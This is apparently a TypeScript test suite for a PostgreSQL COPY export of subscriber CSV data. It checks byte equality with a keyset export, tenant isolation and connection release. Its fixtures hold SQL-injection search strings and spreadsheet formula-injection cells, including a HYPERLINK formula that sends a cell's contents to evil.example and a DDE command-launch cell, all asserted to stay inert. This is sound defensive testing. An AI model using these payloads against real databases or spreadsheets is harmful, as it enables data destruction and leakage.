/**
 * On PostgreSQL the CSV export is written by COPY (app/services/subscribers/export.server.ts): it must
 * give the very bytes of the keyset export that PGlite still uses, apply the same filters to the same
 * store, keep hostile searches values, and give its connection back before the reader takes the first byte.
 */
import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { connection, db } from "~/db/client.server";
import { subscribers } from "~/db/schema";
import type { SubscriberFilters } from "~/lib/schemas/subscribers";
import type { Actor } from "~/services/access/actor.server";
import { exportSubscribersCsv, keysetCsv } from "~/services/subscribers/export.server";
import { filterConditions } from "~/services/subscribers/list.server";
import { actorFor, createStoreFor } from "../support/builders/actors";
import { createOrganizationWithAdmin } from "../support/builders/fixtures";
import { HttpClient } from "../support/clients/http";
import { type AppServer, startApp } from "../support/infra/app-server";
import { sqlRows, testDb } from "../support/infra/db";
import { eventually } from "../support/infra/wait";

/** More rows than one keyset batch (500) and than one 64 kB COPY chunk. */
const BULK_ROWS = 3_000;
/** Enough for an export to be cut off mid-stream: the server waits on a reader that stopped reading. */
const LARGE_ROWS = 20_000;

const HOSTILE_SEARCHES = [
  "o'brien",
  "x'); drop table subscribers; --",
  "\\'; select pg_sleep(5); --",
  "$1 or $2",
  "$$ dollar $$",
  "50%_off\\",
  '"quoted"',
  "E'\\x41'",
  "tab\there",
];

let actor: Actor;
let ownerId: string;
let storeId: string;
let largeStoreId: string;
let rowsInTable: number;

async function countRows(): Promise<number> {
  const [row] = await testDb()
    .select({ total: sql<number>`count(*)`.mapWith(Number) })
    .from(subscribers);
  return row?.total ?? 0;
}

async function readAll(lines: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of lines) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks);
}

/** The export of the service (COPY on PostgreSQL) and the keyset export, as bytes. */
async function bothExports(filters: Partial<SubscriberFilters>, store = storeId) {
  const full: SubscriberFilters = { dateRange: "all", status: "all", search: "", ...filters };
  let copied: Buffer = Buffer.alloc(0);
  await exportSubscribersCsv(actor, store, full, async (_store, csv) => {
    copied = await readAll(csv);
  });
  const batched = await readAll(keysetCsv(filterConditions(store, full), db()));
  return { copied, batched };
}

/** Connections of bulk work in use (the export's COPY runs on them). */
function checkedOutClients(): number {
  const open = connection();
  if (open.kind !== "postgres") throw new Error("these tests run on PostgreSQL");
  return open.bulkPool.totalCount - open.bulkPool.idleCount;
}

async function activeCopies(): Promise<number> {
  const [row] = await sqlRows<{ copies: string }>(
    `select count(*) as copies from pg_stat_activity
     where datname = current_database() and state = 'active' and query like 'COPY (%'`,
  );
  return Number(row?.copies ?? 0);
}

async function waitFor(check: () => Promise<boolean>, what: string): Promise<void> {
  const deadline = Date.now() + 10_000;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`still waiting: ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

beforeAll(async () => {
  const owner = await createOrganizationWithAdmin();
  ownerId = owner.admin.id;
  actor = await actorFor(ownerId);
  storeId = (await createStoreFor(owner.admin.id)).id;
  largeStoreId = (await createStoreFor(owner.admin.id)).id;
  const stranger = await createOrganizationWithAdmin();
  const strangersStore = await createStoreFor(stranger.admin.id);
  await testDb()
    .insert(subscribers)
    .values([
      {
        storeId,
        email: "=SUM(A1)@acme.example",
        name: 'Smith, "Jr."',
        phone: "+1",
        company: "Line one\nLine two",
        address: "Carriage\r\nreturn",
        street: "東京都 1-2-3",
        city: "",
        state: "-1",
        zipCode: "@cmd",
        country: "\tTabbed",
        discountCodeSent: "\rCR",
        discountCodeUsed: true,
        subscribedAt: new Date("2025-01-02T03:04:05.678Z"),
        consentPageUrl: 'https://acme.example/?a=1,b="2"',
        consentIp: " 203.0.113.9",
        consentedAt: new Date("2025-01-02T03:04:05Z"),
      },
      ...HOSTILE_SEARCHES.map((search, index) => ({
        storeId,
        email: `hostile${index}@acme.example`,
        name: `Name ${search}`,
        subscribedAt: new Date(Date.now() - index * 1_000),
      })),
      { storeId: strangersStore.id, email: "stranger@acme.example", name: "o'brien" },
    ]);
  // Microseconds in every timestamp (a Date keeps milliseconds: .999999 must not round up), some
  // unsubscribed, formula starts and empty strings spread over the rows.
  await sqlRows(
    `insert into subscribers (store_id, email, name, phone, is_active, unsubscribed_at, discount_code_sent,
       discount_code_used, subscribed_at, consented_at)
     select $1::uuid, 'bulk' || g || '@acme.example',
       (array['Ann', '=cmd', '+x', '-y', '@z', '', 'Zoë, "Z"', null])[1 + g % 8],
       case when g % 3 = 0 then '+1 555 ' || g end,
       g % 10 <> 0,
       case when g % 10 = 0 then now() - (g || ' seconds')::interval + interval '0.999999 seconds' end,
       case when g % 2 = 0 then 'CODE-' || g end,
       g % 5 = 0,
       now() - (g || ' minutes')::interval - (g % 1000000 || ' microseconds')::interval,
       now() - (g || ' minutes')::interval + interval '0.000999 seconds'
     from generate_series(1, ${BULK_ROWS}) g`,
    [storeId],
  );
  await sqlRows(
    `insert into subscribers (store_id, email, name)
     select $1::uuid, 'large' || g || '@acme.example', 'Reader ' || g from generate_series(1, ${LARGE_ROWS}) g`,
    [largeStoreId],
  );
  rowsInTable = await countRows();
});

describe("COPY export", () => {
  it.each<[string, Partial<SubscriberFilters>]>([
    ["every subscriber", {}],
    ["active ones", { status: "active" }],
    ["unsubscribed ones", { status: "unsubscribed" }],
    ["the last 7 days", { dateRange: "7" }],
    ["a search", { search: "bulk1" }],
    ["a short search", { search: "hO" }],
    ["no match", { search: "nobody at all" }],
  ])("writes the same bytes as the keyset export for %s", async (_label, filters) => {
    const { copied, batched } = await bothExports(filters);
    expect(copied.length).toBeGreaterThan(0);
    expect(
      copied.equals(batched),
      `${copied.toString().slice(0, 400)}\n---\n${batched.toString().slice(0, 400)}`,
    ).toBe(true);
  });

  it("covers every row of the store and none of another organization's", async () => {
    const { copied } = await bothExports({});
    const text = copied.toString("utf8");
    expect(text.startsWith("\uFEFFID,Email,Name,")).toBe(true);
    expect(text).toContain("'=SUM(A1)@acme.example");
    expect(text).toContain('"Smith, ""Jr."""');
    expect(text).not.toContain("stranger@acme.example");
    expect(text.split("\r\n").filter((line) => line.includes("@acme.example")).length).toBeGreaterThanOrEqual(
      BULK_ROWS,
    );
  });

  it.each(HOSTILE_SEARCHES)("keeps hostile search %# a value", async (search) => {
    const { copied, batched } = await bothExports({ search });
    expect(copied.equals(batched)).toBe(true);
    const text = copied.toString("utf8");
    expect(text).toMatch(/hostile\d+@acme\.example/);
    expect(text).not.toContain("stranger@acme.example");
    expect(await countRows()).toBe(rowsInTable);
  });

  it("holds no connection while the reader takes the file, nor after it stops mid-export, however often", async () => {
    // More abandoned exports than the bulk pool has connections: a leaked one would hang the last.
    for (let attempt = 0; attempt < 25; attempt += 1) {
      await exportSubscribersCsv(
        actor,
        largeStoreId,
        { dateRange: "all", status: "all", search: "" },
        async (_store, csv) => {
          expect(checkedOutClients()).toBe(0);
          for await (const _chunk of csv) break;
        },
      );
      expect(checkedOutClients()).toBe(0);
    }
    await waitFor(async () => (await activeCopies()) === 0, "the aborted COPYs to end");
    const { copied } = await bothExports({}, largeStoreId);
    expect(copied.toString("utf8").split("\r\n")).toHaveLength(LARGE_ROWS + 2);
  });
});

describe("formulas after a separator", () => {
  /** Cells a spreadsheet splitting on ";", "|", a tab or a line break would read as formulas. */
  const HOSTILE_CELLS = {
    name: 'Jo;=HYPERLINK("http://evil.example/?"&A1;"click")',
    company: "Acme|+cmd|' /C calc'!A0",
    address: "Street 1\n=1+2",
    city: "Paris\t-3+4",
    state: 'x;"@SUM(A1)"',
    zipCode: "=1;=2",
    consentPageUrl: "https://shop.example/?a;=b,=c",
  };
  /** The same cells as csvCell and the COPY export must write them: a quote before each formula start. */
  const INERT_CELLS = [
    '"Jo;\'=HYPERLINK(""http://evil.example/?""&A1;""click"")"',
    "Acme|'+cmd|' /C calc'!A0",
    '"Street 1\n\'=1+2"',
    "Paris\t'-3+4",
    '"x;""\'@SUM(A1)"""',
    "'=1;'=2",
    "\"https://shop.example/?a;'=b,'=c\"",
  ];
  let hostileStoreId: string;

  beforeAll(async () => {
    hostileStoreId = (await createStoreFor(ownerId)).id;
    await testDb()
      .insert(subscribers)
      .values({ storeId: hostileStoreId, email: "hostile-cells@acme.example", ...HOSTILE_CELLS });
  });

  it("writes each of them inert, in the same bytes on both paths", async () => {
    const { copied, batched } = await bothExports({}, hostileStoreId);
    expect(copied.toString("utf8")).toBe(batched.toString("utf8"));
    const text = copied.toString("utf8");
    for (const cell of INERT_CELLS) expect(text).toContain(cell);
  });
});

describe("over HTTP", () => {
  let app: AppServer;
  let client: HttpClient;
  let httpStoreId: string;

  beforeAll(async () => {
    const owner = await createOrganizationWithAdmin();
    app = await startApp();
    client = new HttpClient(app.url);
    await client.login(owner.email, owner.password);
    httpStoreId = (await createStoreFor(owner.admin.id)).id;
    await sqlRows(
      `insert into subscribers (store_id, email, name)
       select $1::uuid, 'http' || g || '@acme.example', 'Reader ' || g from generate_series(1, ${LARGE_ROWS}) g`,
      [httpStoreId],
    );
  });
  afterAll(async () => {
    await app?.stop();
  });

  const exportUrl = () => new URL(`/api/stores/${httpStoreId}/subscribers/export.csv`, client.baseUrl);
  const cookie = () => [...client.cookies].map(([name, value]) => `${name}=${value}`).join("; ");

  it("ends the COPY of a client that went away, so its place comes back, and keeps exporting after many", async () => {
    for (let attempt = 0; attempt < 25; attempt += 1) {
      const controller = new AbortController();
      // The place of the download before is given back once the server has seen its client leave.
      const response = await eventually(
        async () => {
          const answer = await fetch(exportUrl(), {
            headers: { Cookie: cookie() },
            signal: controller.signal,
          });
          if (answer.status === 429) await answer.body?.cancel();
          return answer.status !== 429 && answer;
        },
        { what: "the place of a download whose client left" },
      );
      expect(response.status).toBe(200);
      await response.body?.getReader().read();
      controller.abort();
    }
    await waitFor(async () => (await activeCopies()) === 0, "the aborted COPYs to end");
    const response = await fetch(exportUrl(), {
      headers: { Cookie: cookie() },
      signal: AbortSignal.timeout(30_000),
    });
    const text = await response.text();
    expect(text.split("\r\n")).toHaveLength(LARGE_ROWS + 2);
  });
});
